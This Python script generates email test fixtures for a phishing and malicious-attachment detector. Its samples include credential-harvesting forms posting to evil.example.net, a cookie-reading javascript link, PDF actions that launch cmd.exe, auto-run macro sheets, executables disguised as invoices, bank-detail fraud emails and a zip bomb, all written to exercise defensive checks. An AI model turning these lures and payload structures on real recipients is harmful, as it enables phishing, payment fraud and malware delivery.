#!/usr/bin/python3
"""Writes the fixture messages of tests/unit/analysis (run from this folder). Binary
attachments (zip archives, a PE header) are built here so the .eml files stay
reproducible (except the encrypted zip, whose salt is random; it needs the zip
command, Debian package zip)."""
import base64, io, os, subprocess, tempfile, zipfile

HEAD = ("From: {frm}\r\nTo: client@example.org\r\nSubject: {subject}\r\n"
        "Date: Fri, 27 Nov 2026 10:00:00 +0100\r\nMessage-ID: <{name}@example.com>\r\n"
        "MIME-Version: 1.0\r\n{extra}")


def iban(country, bban):
    digits = "".join(str(int(c, 36)) for c in bban + country + "00")
    return country + "%02d" % (98 - int(digits) % 97) + bban


FR_IBAN = iban("FR", "30006000011234567890189")
LT_IBAN = iban("LT", "1000011101001000")
BAD_IBAN = FR_IBAN[:2] + ("%02d" % ((int(FR_IBAN[2:4]) + 1) % 100)) + FR_IBAN[4:]


def grouped(s):
    return " ".join(s[i:i + 4] for i in range(0, len(s), 4))


def write(name, frm, body, subject="Message", extra="", ctype="text/plain; charset=utf-8"):
    text = HEAD.format(frm=frm, subject=subject, name=name, extra=extra)
    text += "Content-Type: %s\r\n\r\n%s" % (ctype, body.replace("\n", "\r\n"))
    with open(name + ".eml", "w", encoding="utf-8", newline="") as f:
        f.write(text)


def alternative(name, frm, plain, html, subject="Message", extra=""):
    body = ("--alt\n"
            "Content-Type: text/plain; charset=utf-8\n\n%s\n"
            "--alt\n"
            "Content-Type: text/html; charset=utf-8\n\n%s\n"
            "--alt--\n") % (plain, html)
    write(name, frm, body, subject, extra, 'multipart/alternative; boundary="alt"')


def with_attachment(name, filename, data, ctype="application/octet-stream",
                    frm="Compta <compta@example.com>"):
    b64 = base64.encodebytes(data).decode()
    body = ("--mix\n"
            "Content-Type: text/plain; charset=utf-8\n\nVeuillez trouver le document joint.\n"
            "--mix\n"
            "Content-Type: %s; name=\"%s\"\n"
            "Content-Disposition: attachment; filename=\"%s\"\n"
            "Content-Transfer-Encoding: base64\n\n%s"
            "--mix--\n") % (ctype, filename, filename, b64)
    write(name, frm, body, "Document", "", 'multipart/mixed; boundary="mix"')


def zip_of(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for n, d in members.items():
            # A fixed date keeps the fixtures byte-identical from run to run.
            z.writestr(zipfile.ZipInfo(n, date_time=(2026, 1, 1, 0, 0, 0)), d)
    return buf.getvalue()


def encrypted_zip():
    with tempfile.TemporaryDirectory() as tmp:
        with open(os.path.join(tmp, "facture.pdf"), "wb") as f:
            f.write(b"%PDF-1.4\n")
        subprocess.run(["zip", "-q", "-P", "1234", "out.zip", "facture.pdf"], cwd=tmp,
                       check=True)
        with open(os.path.join(tmp, "out.zip"), "rb") as f:
            return f.read()


PLAIN = "Bonjour,\nVoici les nouvelles du mois et nos offres pour la rentree.\nCordialement"
SENDER = "Example <news@example.com>"

# Content
write("html-only", SENDER, "<html><body><p>%s</p></body></html>\n" % PLAIN,
      ctype="text/html; charset=utf-8")
alternative("alternative", SENDER, PLAIN, "<html><body><p>%s</p></body></html>" % PLAIN)
write("mime-broken", SENDER, "--x\nContent-Type: text/plain\n\n%s\n--x--\n" % PLAIN,
      ctype="multipart/mixed")
alternative("image-only", SENDER, "",
            '<html><body><a href="https://www.example.com/"><img src="https://www.example.com/promo.png"></a>'
            '<p>Promo</p></body></html>')
alternative("image-with-text", SENDER, PLAIN,
            '<html><body><img src="https://www.example.com/logo.png"><p>%s</p></body></html>' % PLAIN)

# Links
def link(name, href, text="Voir l'offre", plain=PLAIN, frm=SENDER):
    alternative(name, frm, plain,
                '<html><body><p>%s</p><p><a href="%s">%s</a></p></body></html>'
                % (PLAIN, href, text))

link("link-name", "https://www.example.com/offre", "Cliquez ici")
link("link-ip", "http://192.0.2.10/login")
link("link-ip-numeric", "http://3221225994/login")
link("link-shortener", "https://bit.ly/3xYz")
link("link-shortener-lookalike", "https://bitly.example.net/3xYz")
link("link-javascript", "javascript:alert(document.cookie)")
link("link-mismatch", "https://secure-login.example.net/paypal", "www.paypal.com")
link("link-mismatch-userinfo", "https://www.paypal.com@evil.example.net/", "https://www.paypal.com/")
link("link-click-tracker", "https://example.us1.list-manage.com/track/click?u=1", "www.example.com")
link("link-same-org", "https://click.example.com/t/123", "www.example.com/offre")
link("link-click-here-elsewhere", "https://tracker.example.net/t/123", "Cliquez ici")
link("link-punycode", "https://" + "p\u0430ypal.com".encode("idna").decode() + "/login", "Connexion")
link("link-punycode-cyrillic", "https://" + "\u0430\u0440\u0440\u04cf\u0435.com".encode("idna").decode() + "/", "Apple")
link("link-idn-latin", "https://" + "caf\u00e9-paris.fr".encode("idna").decode() + "/", "Notre café")

# Spoofing
write("display-name-spoof", '"service@paypal.com" <alert@evil.example.net>', PLAIN)
write("display-name-own", '"example.com support" <support@example.com>', PLAIN)
write("lookalike-digit", "Support <support@examp1e.com>", PLAIN)
write("lookalike-rn", "Support <support@exarnple.com>", PLAIN)
write("lookalike-subdomain", "Support <support@mail.example.com>", PLAIN)
write("reply-to-other", SENDER, PLAIN, extra="Reply-To: sales@partner.example.net\r\n")
write("reply-to-free", "Pierre Martin <pdg@example.com>", PLAIN,
      subject="Virement urgent", extra="Reply-To: pierre.martin.pdg@gmail.com\r\n")
write("reply-to-same-org", SENDER, PLAIN, extra="Reply-To: contact@lists.example.com\r\n")

# Bank details
write("rib-change", "Comptabilite <compta@fournisseur.fr>",
      "Bonjour,\nSuite a un changement de banque, veuillez noter notre nouveau RIB :\n"
      "IBAN : %s\nMerci d'effectuer le reglement de la facture 2026-114 sur ce compte.\n" % grouped(FR_IBAN),
      subject="Facture 2026-114")
write("rib-invoice", "Comptabilite <compta@fournisseur.fr>",
      "Bonjour,\nVeuillez trouver la facture 2026-114, payable par virement.\n"
      "IBAN : %s\nCordialement\n" % grouped(FR_IBAN), subject="Facture 2026-114")
write("rib-bad-checksum", "Comptabilite <compta@fournisseur.fr>",
      "Bonjour,\nIBAN : %s\nCordialement\n" % grouped(BAD_IBAN), subject="Facture 2026-114")
write("bank-change-urgent-en", "Accounts <accounts@supplier.example.com>",
      "Hello,\nPlease note our bank details have changed. Update your records and "
      "send today's payment as soon as possible; the new details follow by phone.\n",
      subject="Payment")
write("bank-no-change-en", "Accounts <accounts@supplier.example.com>",
      "Hello,\nYour payment was received today, thank you. Our bank details are unchanged.\n",
      subject="Payment")
write("iban-foreign", "Comptabilite <compta@fournisseur.fr>",
      "Bonjour,\nMerci de regler la facture sur le compte %s.\n" % LT_IBAN,
      subject="Facture")
write("iban-generic-tld", "Accounts <accounts@supplier.example.com>",
      "Hello,\nPlease pay invoice 7 to %s.\n" % LT_IBAN, subject="Invoice")
with_attachment("iban-in-attachment", "coordonnees.txt",
                ("Titulaire : Fournisseur SARL\nIBAN %s\n" % FR_IBAN).encode(), "text/plain")

# Attachments
PDF = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n"
PE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"PE\x00\x00"
with_attachment("attach-pdf", "facture.pdf", PDF, "application/pdf")
with_attachment("attach-exe", "setup.exe", PE)
with_attachment("attach-pe-as-jpg", "photo.jpg", PE, "image/jpeg")
with_attachment("attach-double", "facture.pdf.exe", PE)
with_attachment("attach-dotted-name", "rapport.2026.pdf", PDF, "application/pdf")
with_attachment("attach-xlsm", "budget.xlsm", zip_of({"[Content_Types].xml": "<Types/>",
                                                      "xl/vbaProject.bin": "vba"}))
with_attachment("attach-xlsx", "budget.xlsx", zip_of({"[Content_Types].xml": "<Types/>",
                                                      "xl/workbook.xml": "<workbook/>"}))
with_attachment("attach-docx-with-vba", "contrat.docx", zip_of({"[Content_Types].xml": "<Types/>",
                                                                "word/vbaProject.bin": "vba"}))
with_attachment("attach-zip-exe", "facture.zip", zip_of({"facture.pdf.exe": PE}), "application/zip")
with_attachment("attach-zip-clean", "photos.zip", zip_of({"a.jpg": b"\xff\xd8\xff", "readme.txt": "hi"}),
                "application/zip")
with_attachment("attach-zip-encrypted", "facture.zip", encrypted_zip(), "application/zip")
with_attachment("attach-html", "connexion.html",
                b"<html><form action='https://evil.example.net/'>password</form></html>",
                "text/html")
with_attachment("attach-iso", "facture.iso", b"\x00" * 64, "application/octet-stream")

# Attachments read inside: archives walked recursively, Office and PDF files parsed
# (tests/data/documents.py builds the bytes).
import sys
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "..",
                                "data"))
import documents as D  # noqa: E402

RIB_LINES = ["RELEVE D'IDENTITE BANCAIRE", "Titulaire : Fournisseur SARL",
             "IBAN : " + grouped(FR_IBAN), "BIC : AGRIFRPP882"]
ZIP = "application/zip"
PDF_TYPE = "application/pdf"
with_attachment("attach-zip-zip-exe", "documents.zip",
                D.zip_of({"factures/facture-2026.zip": D.zip_of({"facture.exe": D.PE})}), ZIP)
with_attachment("attach-zip-iso", "scan.zip",
                D.zip_of({"scan.iso": D.iso_of({"scan.exe": D.PE})}), ZIP)
with_attachment("attach-zip-html", "facture.zip",
                D.zip_of({"facture.html": "<html><form action='https://evil.example.net/'>"
                                          "<input type=password></form></html>"}), ZIP)
with_attachment("attach-zip-docm", "commande.zip",
                D.zip_of({"commande.docm": D.docx(["Bon de commande"], vba=True)}), ZIP)
with_attachment("attach-exe-gz", "facture.exe.gz", D.gz("facture.exe", D.PE),
                "application/gzip")
with_attachment("attach-doc-vba", "facture.doc", D.legacy_doc(vba=True), "application/msword")
with_attachment("attach-doc-clean", "courrier.doc", D.legacy_doc(), "application/msword")
with_attachment("attach-xls-vba", "tarifs.xls", D.legacy_xls(vba=True),
                "application/vnd.ms-excel")
# Excel 4.0 macro droppers, and invoices with a hidden ordinary sheet that stay clean.
XLS_TYPE = "application/vnd.ms-excel"
INVOICE_SHEETS = [("Facture", "worksheet", "visible"), ("Detail", "worksheet", "visible"),
                  ("Listes", "worksheet", "hidden")]
with_attachment("attach-xls-xlm", "facture.xls",
                D.legacy_xls(sheets=[("Feuil1", "worksheet", "visible"),
                                     ("Macro1", "macro", "veryHidden")], names=[1]), XLS_TYPE)
with_attachment("attach-xls-xlm-visible", "tarifs.xls",
                D.legacy_xls(sheets=[("Tarifs", "worksheet", "visible"),
                                     ("Macro1", "macro", "visible")]), XLS_TYPE)
with_attachment("attach-xlsm-xlm", "releve.xlsm",
                D.xlsx([("Releve", "worksheet", "visible"), ("Macro1", "macro", "hidden")],
                       names={"_xlnm.Auto_Open": "Macro1!$A$1"}, macro_enabled=True),
                "application/vnd.ms-excel.sheet.macroEnabled.12")
with_attachment("attach-xls-invoice", "facture.xls",
                D.legacy_xls(sheets=INVOICE_SHEETS, names=[6, "TauxTVA"]), XLS_TYPE)
with_attachment("attach-xlsx-invoice", "facture.xlsx",
                D.xlsx(INVOICE_SHEETS, names={"_xlnm.Print_Area": "Facture!$A$1:$F$40"},
                       strings=["Facture 2026-114"]),
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
with_attachment("attach-doc-encrypted", "contrat.doc", D.legacy_doc(encrypted=True),
                "application/msword")
with_attachment("attach-onenote", "facture.one", D.onenote(), "application/onenote")
with_attachment("attach-onenote-pe", "document.one", D.onenote(D.PE), "application/onenote")
with_attachment("attach-onenote-renamed", "facture.pdf", D.onenote(), PDF_TYPE)
with_attachment("attach-pdf-openaction-js", "facture.pdf",
                D.text_pdf(["Facture 2026-114"],
                           "/OpenAction << /S /JavaScript /JS (app.launchURL\\('https://evil"
                           ".example.net/'\\)) >> "), PDF_TYPE)
with_attachment("attach-pdf-js-escaped", "facture.pdf",
                D.text_pdf(["Facture"], "/OpenAction << /S /J#61vaScript /J#53 (this.print"
                           "\\(\\)) >> "), PDF_TYPE)
with_attachment("attach-pdf-launch", "facture.pdf",
                D.text_pdf(["Facture"], "", "/Annots [6 0 R] ",
                           ["<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch "
                            "/F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>"]), PDF_TYPE)
with_attachment("attach-pdf-objstm-launch", "facture.pdf",
                D.text_pdf(["Facture"], "/OpenAction 7 0 R ", extra_objects=[
                    D.object_stream({7: "<< /S /Launch /F (cmd.exe) >>"})]), PDF_TYPE)
with_attachment("attach-pdf-embedded-exe", "facture.pdf",
                D.text_pdf(["Facture"], "/Names << /EmbeddedFiles << /Names [(setup.exe) 6 0 R]"
                           " >> >> ",
                           extra_objects=["<< /Type /Filespec /F (setup.exe) /UF (setup.exe) "
                                          "/EF << /F 7 0 R >> >>",
                                          b"<< /Type /EmbeddedFile /Length %d >>\nstream\n"
                                          % len(D.PE) + D.PE + b"\nendstream"]), PDF_TYPE)
# A name-tree value that refers to a string first: poppler 22.12 crashed on it, which
# hid the program after it.
with_attachment("attach-pdf-embedded-poisoned", "facture.pdf",
                D.text_pdf(["Facture"], "/Names << /EmbeddedFiles << /Names [(a.pdf) 6 0 R "
                           "(setup.exe) 7 0 R] >> >> ",
                           extra_objects=["(a.pdf)", "<< /Type /Filespec /F (setup.exe) "
                                          "/EF << /F 8 0 R >> >>",
                                          b"<< /Type /EmbeddedFile /Length %d >>\nstream\n"
                                          % len(D.PE) + D.PE + b"\nendstream"]), PDF_TYPE)
FACTURX = b'<?xml version="1.0"?><rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact"/>'
with_attachment("attach-pdf-facturx", "facture-2026-114.pdf",
                D.text_pdf(RIB_LINES, "/Names << /EmbeddedFiles << /Names [(factur-x.xml) 6 0 R]"
                           " >> >> /AF [6 0 R] ",
                           extra_objects=["<< /Type /Filespec /F (factur-x.xml) /UF (factur-x.xml) "
                                          "/AFRelationship /Data /EF << /F 7 0 R >> >>",
                                          b"<< /Type /EmbeddedFile /Subtype /text#2Fxml "
                                          b"/Length %d >>\nstream\n" % len(FACTURX) + FACTURX
                                          + b"\nendstream"]), PDF_TYPE)
with_attachment("attach-pdf-signed", "contrat-signe.pdf",
                D.text_pdf(["Contrat de prestation", "Signe electroniquement"],
                           "/AcroForm << /Fields [6 0 R] /SigFlags 3 >> ",
                           extra_objects=["<< /FT /Sig /T (Signature1) /V 7 0 R /Type /Annot "
                                          "/Subtype /Widget /Rect [0 0 0 0] /P 3 0 R >>",
                                          "<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter "
                                          "/adbe.pkcs7.detached /ByteRange [0 100 200 300] "
                                          "/Contents <3082> >>"]), PDF_TYPE)
with_attachment("attach-exe-as-pdf", "facture.pdf", D.PE, PDF_TYPE)
with_attachment("attach-html-as-pdf", "facture.pdf",
                b"<!DOCTYPE html><html><head><title>Facture</title></head><body><form "
                b"action='https://evil.example.net/'><input type=password></form></body></html>",
                PDF_TYPE)
with_attachment("attach-zip-as-pdf", "facture.pdf", D.zip_of({"facture.js": "WScript.Echo(1)"}),
                PDF_TYPE)
with_attachment("attach-html-as-xls", "export-ventes.xls",
                b"<html><head><meta charset='utf-8'></head><body><table><tr><td>Client</td>"
                b"<td>Total</td></tr><tr><td>Dupont</td><td>120</td></tr></table></body></html>",
                "application/vnd.ms-excel")
with_attachment("attach-rib-pdf", "RIB.pdf", D.text_pdf(RIB_LINES), PDF_TYPE)
with_attachment("attach-rib-docx", "coordonnees.docx",
                D.docx(["Coordonnees bancaires"], footer="IBAN " + grouped(FR_IBAN)),
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
with_attachment("attach-rib-odt", "rib.odt", D.odt(RIB_LINES),
                "application/vnd.oasis.opendocument.text")
with_attachment("attach-rib-in-zip", "documents.zip", D.zip_of({"RIB.pdf": D.text_pdf(RIB_LINES)}),
                ZIP)
with_attachment("attach-pdf-damaged", "facture.pdf", b"%PDF-1.4\n" + b"\x00garbage" * 64,
                PDF_TYPE)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x11" * 200
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64
with_attachment("attach-zip-photos", "photos-chantier.zip",
                D.zip_of({"IMG_2041.jpg": JPEG, "IMG_2042.jpg": JPEG, "plan.png": PNG},
                         zipfile.ZIP_STORED), ZIP)
with_attachment("attach-ics", "invitation.ics",
                b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Example//EN\r\nMETHOD:REQUEST\r\n"
                b"BEGIN:VEVENT\r\nUID:1@example.com\r\nDTSTART:20261130T090000Z\r\n"
                b"SUMMARY:Point mensuel\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n", "text/calendar")
with_attachment("attach-docx-clean", "contrat.docx", D.docx(["Contrat de maintenance"]),
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
# Hostile: a zip of 64 MiB of zeros (deflate's 1,000:1) with a document's name, so that it
# is read until the budget stops it; archives nested 64 deep around a program.
with_attachment("attach-zip-bomb", "factures.zip", D.zip_of({"facture.pdf": b"\0" * (64 << 20)}),
                ZIP)
nested = D.PE
for level in range(64):
    nested = D.zip_of({"facture.exe" if level == 0 else "niveau%d.zip" % level: nested})
with_attachment("attach-zip-nested-64", "factures.zip", nested, ZIP)
